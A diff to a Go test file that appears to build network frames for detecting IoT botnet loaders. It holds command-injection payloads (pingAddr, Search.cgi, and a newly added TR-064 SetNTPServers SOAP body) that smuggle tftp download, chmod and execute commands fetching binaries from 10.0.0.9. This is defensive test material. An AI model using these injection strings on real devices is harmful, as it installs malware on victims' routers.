@@ -443,6 +443,10 @@ func loaderForms(t testing.TB) []frame {
 			"pingAddr=%3bbusybox+tftp+-g+-r+swJaf+-l+/var/swJaf+10.0.0.9+69%3bcd+/var%3bchmod+0777+swJaf%3b./swJaf&wanif=65535&go=+Ping")),
 		// 17: Gafgyt's -g before the host, then -r (a Python scanner's line), port 80 request line.
 		tcpTo(t, infected, victim, 41017, 80, "GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;cd+/tmp;tftp+-g+10.0.0.9+-r+tftp1.sh;sh+tftp1.sh&password=x HTTP/1.1\r\n\r\n"),
+		// 18: the 2016 TR-064 variant (port 7547) fetches a file named 7,
+		// which no signature can list: weak.
+		tcpTo(t, infected, victim, 41018, 7547, post("/UD/act?1", "text/xml",
+			`<?xml version="1.0"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers><NewNTPServer1>`+"`cd /tmp;tftp -l 7 -r 7 -g 10.0.0.9;chmod a+x 7;./7`"+`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>`)),
 	)
 }
 
